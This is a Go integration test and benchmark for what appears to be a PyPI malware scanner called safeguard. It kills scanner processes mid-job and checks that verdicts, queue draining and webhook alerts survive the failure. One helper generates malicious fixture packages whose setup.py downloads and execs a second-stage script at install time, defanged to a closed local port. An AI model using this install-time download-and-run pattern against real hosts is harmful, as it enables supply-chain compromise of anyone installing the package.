package cli

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha256"
	"database/sql"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/safeguard-dev/safeguard/internal/notify"
	"github.com/safeguard-dev/safeguard/internal/notify/notifytest"
	"github.com/safeguard-dev/safeguard/internal/pypi/pypitest"
	"github.com/safeguard-dev/safeguard/internal/store/storetest"
)

// TestScaleOut runs three safeguard serve processes on one PostgreSQL
// store (one with every role, one that follows, works and sends, one that
// only works) against the fake PyPI. The worker-only process is killed
// with SIGKILL while it runs a job, and the process that follows PyPI
// too; the files published afterwards are still followed (the follower
// role moved to the survivor), every file ends with its verdict, the
// queue drains, and every expected alert reaches the webhook once.
//
// By default it publishes a small generated set; CI sets
// $SAFEGUARD_SCALEOUT_CORPUS (a directory of artifacts, the evaluation
// corpus) and $SAFEGUARD_SCALEOUT_FILES (2,000) for the full run.
func TestScaleOut(t *testing.T) {
	if testing.Short() {
		t.Skip("runs three safeguard serve processes")
	}
	dsn := storetest.Postgres(t)
	total := 60
	if v := os.Getenv("SAFEGUARD_SCALEOUT_FILES"); v != "" {
		total, _ = strconv.Atoi(v)
	}
	const watched = 20 // defanged malicious releases of watched names, published last
	files := scaleOutFiles(t, total-watched, os.Getenv("SAFEGUARD_SCALEOUT_CORPUS"))
	var evil []upload
	for i := range watched {
		name := fmt.Sprintf("evil-%d", i)
		evil = append(evil, upload{name: name, version: "1.0", filename: name + "-1.0.tar.gz",
			data: sdist(t, name, "1.0", map[string]string{"setup.py": stagedSetupPy(name)})})
	}

	fake := pypitest.Start()
	defer fake.Close()
	secret := notify.GenerateSecret()
	hook := notifytest.NewWebhookReceiver(t, secret)
	dir := t.TempDir()
	var req strings.Builder
	for _, u := range evil {
		req.WriteString(u.name + "\n")
	}
	os.WriteFile(filepath.Join(dir, "requirements.txt"), []byte(req.String()), 0o644)
	if out, err := exec.Command("safeguard", "--data-dir", dir, "--db", dsn, "watch", "add", filepath.Join(dir, "requirements.txt"),
		"--project", "app", "--notify", hook.Spec(), "--webhook-secret", secret).CombinedOutput(); err != nil {
		t.Fatalf("watch add: %v\n%s", err, out)
	}

	var db *sql.DB
	t.Cleanup(func() {
		if t.Failed() && db != nil {
			rows, err := db.Query(`SELECT state, kind, args->>'id', attempt, attempted_by::text, errors::text FROM river_job WHERE state <> 'completed' ORDER BY id LIMIT 20`)
			if err == nil {
				for rows.Next() {
					var state, kind, id, by, errs sql.NullString
					var attempt int
					rows.Scan(&state, &kind, &id, &attempt, &by, &errs)
					t.Logf("job %s %s %s attempt %d by %s errors %.300s", state.String, kind.String, id.String, attempt, by.String, errs.String)
				}
				rows.Close()
			}
		}
		if t.Failed() {
			for _, name := range []string{"all", "survivor", "worker"} {
				b, _ := os.ReadFile(filepath.Join(dir, name+".log"))
				t.Logf("%s:\n%s", name, tail(string(b), 30))
			}
		}
	})
	port := freePort(t)
	common := []string{"--data-dir", dir, "--db", dsn, "serve", "--pypi-url", fake.URL(), "--since", "0", "--poll", "100ms",
		"--osv-every", "0", "--index=false", "--lease", "3s"}
	all := startServe(t, dir, "all", append(common, "--role", "all", "--workers", "1", "--listen", "127.0.0.1:"+port)...)
	waitMetric(t, port, "safeguard_monitor_follower_leader 1")
	survivor := startServe(t, dir, "survivor", append(common, "--role", "follower,worker,sender", "--workers", "2")...)
	worker := startServe(t, dir, "worker", append(common, "--role", "worker", "--workers", "1")...)

	var err error
	db, err = sql.Open("pgx", dsn)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	half := len(files) / 2
	for _, u := range files[:half] {
		u.publish(t, fake)
	}

	// The worker-only process, killed while it runs a job.
	waitFor(t, 2*time.Minute, "the worker-only process to run a job", func() bool {
		var n int
		db.QueryRow(`SELECT count(*) FROM river_job WHERE state = 'running' AND attempted_by[cardinality(attempted_by)] LIKE $1`,
			fmt.Sprintf("%s-%d-%%", hostname(), worker.Process.Pid)).Scan(&n)
		return n > 0
	})
	// The worker is busy with the backlog: whatever job it holds at the
	// kill (the one seen running, or the next one it took) is left running
	// and must be rescued.
	workerID := fmt.Sprintf("%s-%d-%%", hostname(), worker.Process.Pid)
	worker.Process.Signal(syscall.SIGKILL)
	killedAt := time.Now()
	worker.Wait()
	// The follower, killed once some of the first half has been read.
	waitFor(t, time.Minute, "the follower to read the first files", func() bool {
		var n int
		db.QueryRow(`SELECT count(*) FROM verdicts`).Scan(&n)
		return n >= half/4
	})
	all.Process.Signal(syscall.SIGKILL)
	all.Wait()

	// Published after the follower died: only a follower that took over
	// reads them.
	for _, u := range append(files[half:], evil...) {
		u.publish(t, fake)
	}
	published := map[string]string{}
	for _, u := range append(files, evil...) {
		sum := sha256.Sum256(u.data)
		published[hex.EncodeToString(sum[:])] = u.filename
	}
	deadline := time.Duration(len(published))*time.Second + 2*time.Minute
	if !waitUntil(deadline, func() bool {
		var n int
		db.QueryRow(`SELECT count(*) FROM verdicts`).Scan(&n)
		return n >= len(published)
	}) {
		var jobs, verdicts int
		var cursor int64
		db.QueryRow(`SELECT count(*) FROM river_job`).Scan(&jobs)
		db.QueryRow(`SELECT count(*) FROM verdicts`).Scan(&verdicts)
		db.QueryRow(`SELECT serial FROM cursors WHERE name = 'pypi'`).Scan(&cursor)
		t.Errorf("%d verdicts of %d files; %d jobs; cursor %d of %d journal rows", verdicts, len(published), jobs, cursor, fake.LastSerial())
		for sum, name := range published {
			var n int
			db.QueryRow(`SELECT count(*) FROM verdicts WHERE sha256 = $1`, sum).Scan(&n)
			if n == 0 {
				var state string
				db.QueryRow(`SELECT state FROM river_job WHERE args->>'id' LIKE '%/' || $1`, name).Scan(&state)
				t.Errorf("no verdict for %s (job: %q)", name, state)
			}
		}
		t.FailNow()
	}
	rows, err := db.Query(`SELECT sha256, filename FROM verdicts`)
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for rows.Next() {
		var sum, name string
		rows.Scan(&sum, &name)
		got[sum] = name
	}
	rows.Close()
	for sum, name := range published {
		if _, ok := got[sum]; !ok {
			t.Errorf("no verdict for %s", name)
		}
	}
	if len(got) != len(published) {
		t.Errorf("%d verdicts for %d files", len(got), len(published))
	}
	waitFor(t, time.Minute, "the queue to drain", func() bool {
		var n int
		db.QueryRow(`SELECT count(*) FROM river_job WHERE state NOT IN ('completed')`).Scan(&n)
		return n == 0
	})

	// The killed worker's job was rescued, and run again within the
	// lease and the rescuer's period; the follower role moved.
	var rescued int
	var finished time.Time
	db.QueryRow(`SELECT count(*), max(finalized_at) FROM river_job WHERE array_to_string(attempted_by, ' ') LIKE '%' || $1
		AND errors::text LIKE '%rescued%'`, workerID).Scan(&rescued, &finished)
	if rescued == 0 {
		t.Errorf("no job the killed worker held was rescued")
	} else if took := finished.Sub(killedAt); took > time.Minute {
		t.Errorf("the killed worker's job finished %v after the kill", took)
	} else {
		t.Logf("the killed worker's job finished %v after the kill", took.Round(time.Millisecond))
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "survivor.log")); !strings.Contains(string(b), "msg=leading role=follower") {
		t.Error("the survivor never took the follower role")
	}

	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	if _, err := hook.Wait(ctx, watched); err != nil {
		t.Fatalf("webhook: %v", err)
	}
	time.Sleep(2 * time.Second) // anything more that would come
	ids, contents := map[string]int{}, map[string]int{}
	for _, d := range hook.Accepted() {
		var body struct {
			Type string         `json:"type"`
			Data notify.Message `json:"data"`
		}
		json.Unmarshal(d.Body, &body)
		ids[d.ID()]++
		contents[body.Type+" "+body.Data.Package+" "+body.Data.Version]++
	}
	var want []string
	for _, u := range evil {
		want = append(want, "alert.malicious "+u.name+" 1.0")
	}
	var gotAlerts []string
	for c, n := range contents {
		gotAlerts = append(gotAlerts, c)
		if n != 1 {
			t.Errorf("%s delivered %d times", c, n)
		}
	}
	for id, n := range ids {
		if n != 1 {
			t.Errorf("webhook-id %s delivered %d times", id, n)
		}
	}
	sort.Strings(want)
	sort.Strings(gotAlerts)
	if strings.Join(want, "\n") != strings.Join(gotAlerts, "\n") {
		t.Errorf("alerts:\n%s\nwant:\n%s", strings.Join(gotAlerts, "\n"), strings.Join(want, "\n"))
	}
	survivor.Process.Signal(os.Interrupt)
	survivor.Wait()
	t.Logf("%d files, %d verdicts, %d alerts", len(published), len(got), len(hook.Accepted()))
}

// upload is a file for the fake PyPI.
type upload struct {
	name, version, filename string
	data                    []byte
}

func (u upload) publish(t *testing.T, fake *pypitest.Server) {
	t.Helper()
	if err := fake.Publish(u.name, u.version, u.filename, u.data); err != nil {
		t.Fatal(err)
	}
}

// scaleOutFiles are n uploads: a few large generated sdists (slow enough
// to scan that a process can be killed in the middle), then artifacts of
// corpus, if given, else generated clean wheels; each a new project.
func scaleOutFiles(t testing.TB, n int, corpus string) []upload {
	var out []upload
	for i := range 4 {
		name := fmt.Sprintf("big-%d", i)
		out = append(out, upload{name: name, version: "1.0", filename: name + "-1.0.tar.gz", data: sdist(t, name, "1.0", bigModules(2<<20))})
	}
	if corpus != "" {
		out = append(out, corpusUploads(t, n-len(out), corpus)...)
	}
	for i := 0; len(out) < n; i++ {
		name := fmt.Sprintf("tidy-%d", i)
		out = append(out, upload{name: name, version: "1.0", filename: name + "-1.0-py3-none-any.whl",
			data: wheelOf(t, name, "1.0", map[string]string{name + "/__init__.py": fmt.Sprintf("VALUE = %d\n", i)})})
	}
	return out
}

// corpusUploads are up to n artifacts of the corpus, each the only file
// of a new project named pkg-N.
func corpusUploads(t testing.TB, n int, corpus string) []upload {
	var out []upload
	filepath.WalkDir(corpus, func(p string, d os.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() || len(out) >= n {
			return nil
		}
		name := fmt.Sprintf("pkg-%d", len(out))
		var filename string
		switch {
		case strings.HasSuffix(p, ".whl"):
			filename = name + "-1.0-py3-none-any.whl"
		case strings.HasSuffix(p, ".tar.gz"):
			filename = name + "-1.0.tar.gz"
		case strings.HasSuffix(p, ".zip"):
			filename = name + "-1.0.zip"
		default:
			return nil
		}
		data, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, upload{name: name, version: "1.0", filename: filename, data: data})
		return nil
	})
	return out
}

// stagedSetupPy is a defanged download-and-run at install time: it fetches
// from a closed port on this machine.
func stagedSetupPy(name string) string {
	return "import urllib.request\nfrom setuptools import setup\nexec(urllib.request.urlopen(\"http://127.0.0.1:9/stage2.py\").read())\nsetup(name=\"" + name + "\", version=\"1.0\")\n"
}

// bigModules is about size bytes of ordinary Python modules.
func bigModules(size int) map[string]string {
	out := map[string]string{}
	for i, n := 0, 0; n < size; i++ {
		var b strings.Builder
		fmt.Fprintf(&b, "import os\nimport subprocess\n\n\nclass Task%d:\n", i)
		for j := range 200 {
			fmt.Fprintf(&b, "    def step_%d(self, path):\n        out = subprocess.run([\"git\", \"log\", \"-n\", \"%d\"], capture_output=True)\n        return os.path.join(path, str(out.returncode))\n\n", j, j)
		}
		n += b.Len()
		out[fmt.Sprintf("pkg/task_%04d.py", i)] = b.String()
	}
	return out
}

// sdist packs files under name-version/, with a PKG-INFO.
func sdist(t testing.TB, name, version string, files map[string]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	files["PKG-INFO"] = "Metadata-Version: 2.1\nName: " + name + "\nVersion: " + version + "\n"
	names := make([]string, 0, len(files))
	for n := range files {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		tw.WriteHeader(&tar.Header{Name: name + "-" + version + "/" + n, Mode: 0o644, Size: int64(len(files[n])), Typeflag: tar.TypeReg})
		tw.Write([]byte(files[n]))
	}
	tw.Close()
	zw.Close()
	return buf.Bytes()
}

// wheelOf packs files with a dist-info.
func wheelOf(t testing.TB, name, version string, files map[string]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	info := name + "-" + version + ".dist-info/"
	files[info+"METADATA"] = "Metadata-Version: 2.1\nName: " + name + "\nVersion: " + version + "\n"
	files[info+"WHEEL"] = "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
	for n, body := range files {
		w, _ := zw.Create(n)
		io.WriteString(w, body)
	}
	zw.Close()
	return buf.Bytes()
}

// startServe starts safeguard with args, its output in DIR/NAME.log; the
// process is killed when the test ends.
func startServe(t testing.TB, dir, name string, args ...string) *exec.Cmd {
	t.Helper()
	log, err := os.Create(filepath.Join(dir, name+".log"))
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("safeguard", append([]string{"--log-level", "info"}, args...)...)
	cmd.Stdout, cmd.Stderr = log, log
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if cmd.ProcessState == nil {
			cmd.Process.Kill()
			cmd.Wait()
		}
		log.Close()
	})
	return cmd
}

func freePort(t *testing.T) string {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	return strconv.Itoa(ln.Addr().(*net.TCPAddr).Port)
}

// waitMetric waits until /-/metrics on port has a line.
func waitMetric(t *testing.T, port, line string) {
	t.Helper()
	waitFor(t, time.Minute, line, func() bool {
		resp, err := http.Get("http://127.0.0.1:" + port + "/-/metrics")
		if err != nil {
			return false
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return strings.Contains(string(b), "\n"+line+"\n")
	})
}

func waitFor(t *testing.T, within time.Duration, what string, cond func() bool) {
	t.Helper()
	if !waitUntil(within, cond) {
		t.Fatalf("timed out after %v waiting for %s", within, what)
	}
}

// waitUntil reports whether cond came true within the time.
func waitUntil(within time.Duration, cond func() bool) bool {
	for deadline := time.Now().Add(within); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
		if cond() {
			return true
		}
	}
	return false
}

func hostname() string {
	h, _ := os.Hostname()
	return h
}

func tail(s string, n int) string {
	lines := strings.Split(strings.TrimRight(s, "\n"), "\n")
	return strings.Join(lines[max(0, len(lines)-n):], "\n")
}

// BenchmarkScaleOut measures files scanned a second by 1, 2 and 4 worker
// processes (one worker each) sharing a PostgreSQL store, with a
// follower process of its own, on files of the evaluation corpus
// ($SAFEGUARD_SCALEOUT_CORPUS; $SAFEGUARD_SCALEOUT_FILES of them, 300 by
// default).
func BenchmarkScaleOut(b *testing.B) {
	corpus := os.Getenv("SAFEGUARD_SCALEOUT_CORPUS")
	if corpus == "" {
		b.Skip("set SAFEGUARD_SCALEOUT_CORPUS to a directory of artifacts (the evaluation corpus)")
	}
	n := 300
	if v := os.Getenv("SAFEGUARD_SCALEOUT_FILES"); v != "" {
		n, _ = strconv.Atoi(v)
	}
	for _, procs := range []int{1, 2, 4} {
		b.Run(fmt.Sprintf("processes=%d", procs), func(b *testing.B) {
			for b.Loop() {
				files := corpusUploads(b, n, corpus)
				dsn := storetest.Postgres(b)
				fake := pypitest.Start()
				dir := b.TempDir()
				common := []string{"--data-dir", dir, "--db", dsn, "serve", "--pypi-url", fake.URL(), "--since", "0", "--poll", "100ms",
					"--osv-every", "0", "--index=false"}
				var cmds []*exec.Cmd
				cmds = append(cmds, startServe(b, dir, "follower", append(common, "--role", "follower")...))
				for i := range procs {
					cmds = append(cmds, startServe(b, dir, fmt.Sprint("worker", i), append(common, "--role", "worker", "--workers", "1")...))
				}
				db, err := sql.Open("pgx", dsn)
				if err != nil {
					b.Fatal(err)
				}
				time.Sleep(2 * time.Second) // the processes start
				start := time.Now()
				for _, u := range files {
					if err := fake.Publish(u.name, u.version, u.filename, u.data); err != nil {
						b.Fatal(err)
					}
				}
				for {
					var done int
					db.QueryRow(`SELECT count(*) FROM river_job WHERE kind = 'file' AND state IN ('completed', 'discarded')`).Scan(&done)
					if done >= len(files) {
						break
					}
					time.Sleep(50 * time.Millisecond)
				}
				b.ReportMetric(float64(len(files))/time.Since(start).Seconds(), "files/s")
				for _, c := range cmds {
					c.Process.Signal(os.Interrupt)
					c.Wait()
				}
				db.Close()
				fake.Close()
			}
		})
	}
}
